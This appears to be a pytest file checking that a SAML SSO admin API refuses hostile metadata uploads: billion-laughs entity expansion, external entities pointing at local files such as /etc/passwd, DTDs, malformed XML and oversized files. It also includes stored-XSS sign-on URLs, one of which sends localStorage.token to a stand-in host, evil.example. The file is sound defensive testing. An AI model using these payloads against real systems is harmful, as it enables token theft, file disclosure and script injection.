"""Hostile metadata uploads are refused with a 400 naming the problem, store nothing and fetch nothing:
entity expansion (billion laughs), external entities to a local file or a URL, DTDs, non-XML, XML that is
not SAML metadata, and files over the 10 MiB limit."""

from __future__ import annotations

import html
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.openapi import assert_matches_spec
from tests.sso import idp_documents as idp
from tests.sso.conftest import CREATE, PROVIDERS, assert_error, create, provider_names, unique_name

LIMIT = 10 * 1024 * 1024
TOO_LARGE = f"metadata file is larger than the limit of {LIMIT} bytes"


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server that records every request: no hostile document may make us fetch anything."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY leak "fetched">')

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()


def refused(admin: httpx.Client, role_ids: dict, document: bytes, message: str | None = None, *,
            starts: str | None = None) -> str:
    name = unique_name("hostile")
    response = create(admin, name, document, role=str(role_ids["User"]))
    assert_error(response, 400, message)
    assert_matches_spec(response, CREATE)
    text = response.json()["errors"][0]["message"]
    if starts is not None:
        assert text.startswith(starts), text
    assert name not in provider_names(admin)
    return text


def test_billion_laughs(admin: httpx.Client, role_ids: dict) -> None:
    refused(admin, role_ids, idp.BILLION_LAUGHS, "metadata XML refused: it declares the entity 'lol'; entity "
                                                 "declarations (and their expansion) are not allowed")


def test_external_entity_to_a_local_file(admin: httpx.Client, role_ids: dict, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    message = refused(admin, role_ids, idp.external_entity(str(secret)),
                      f"metadata XML refused: it declares the external entity 'secret' (file://{secret}); "
                      "external entities are not allowed")
    assert "TOP-SECRET-CONTENT" not in message


def test_external_references_are_never_fetched(admin: httpx.Client, role_ids: dict,
                                               listener: tuple[str, list[str]]) -> None:
    base, requests = listener
    parameter_entity = idp.EXTERNAL_PARAMETER_ENTITY.replace(b"http://127.0.0.1:9", base.encode())
    refused(admin, role_ids, parameter_entity, starts="metadata XML refused: it declares the external entity 'remote'")
    external_dtd = idp.EXTERNAL_DTD.replace(b"http://127.0.0.1:9", base.encode())
    refused(admin, role_ids, external_dtd, starts="metadata XML refused: ")
    refused(admin, role_ids, idp.external_entity("/etc/hostname").replace(b"file:///etc/hostname",
                                                                           f"{base}/x".encode()),
            starts="metadata XML refused: it declares the external entity 'secret'")
    assert requests == []


def test_a_dtd_is_refused_even_without_entities(admin: httpx.Client, role_ids: dict) -> None:
    refused(admin, role_ids, idp.INERT_DTD,
            "metadata XML refused: it contains a document type declaration (DTD); DTDs are not allowed")


def test_not_xml(admin: httpx.Client, role_ids: dict) -> None:
    refused(admin, role_ids, idp.NOT_XML, starts="metadata is not well-formed XML: ")
    refused(admin, role_ids, b"", "metadata is not well-formed XML: the file is empty")
    refused(admin, role_ids, idp.OKTA[:-40], starts="metadata is not well-formed XML: ")


def test_xml_that_is_not_saml_metadata(admin: httpx.Client, role_ids: dict) -> None:
    refused(admin, role_ids, idp.NOT_METADATA,
            "metadata is not SAML 2.0 metadata: the document element is "
            "{urn:oasis:names:tc:SAML:2.0:protocol}Response, expected "
            "{urn:oasis:names:tc:SAML:2.0:metadata}EntityDescriptor")
    refused(admin, role_ids, idp.NO_ENTITY_ID,
            "metadata is not SAML 2.0 metadata: the EntityDescriptor has no entityID")


def test_size_limit(admin: httpx.Client, role_ids: dict) -> None:
    at_limit = idp.OKTA + b" " * (LIMIT - len(idp.OKTA))
    assert len(at_limit) == LIMIT
    response = create(admin, unique_name("at-limit"), at_limit, role=str(role_ids["User"]))
    assert response.status_code == 200, response.text
    refused(admin, role_ids, at_limit + b" ", TOO_LARGE)
    refused(admin, role_ids, at_limit * 3, TOO_LARGE)


def test_an_update_with_hostile_metadata_changes_nothing(admin: httpx.Client, role_ids: dict) -> None:
    created = create(admin, unique_name(), idp.OKTA, role=str(role_ids["User"])).json()["data"]
    url = f"{PROVIDERS}/{created['sso_provider_id']}"
    for document in (idp.BILLION_LAUGHS, idp.external_entity("/etc/passwd"), idp.INERT_DTD, idp.NOT_XML,
                     idp.NOT_METADATA):
        response = admin.patch(url, data={"name": unique_name()},
                               files={"metadata": ("m.xml", document, "application/xml")})
        assert_error(response, 400)
    assert admin.get(url).json()["data"]["details"] == created


@pytest.mark.parametrize("location", ["javascript:fetch('//evil.example/'+localStorage.token)",
                                      "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)", "//no-scheme"])
def test_a_sign_on_location_that_is_not_http_is_refused(admin: httpx.Client, location: str) -> None:
    # The public login page posts the browser to it: a script URL there ran in our origin (stored XSS).
    name = unique_name()
    hostile = idp.OKTA.replace(f'Location="{idp.OKTA_SSO_POST}"/>'.encode(),
                               f'Location="{html.escape(location)}"/>'.encode())
    assert hostile != idp.OKTA
    response = create(admin, name, hostile)
    assert_error(response, 400)
    assert "is not an http(s) URL" in response.json()["errors"][0]["message"]
    assert name not in provider_names(admin)
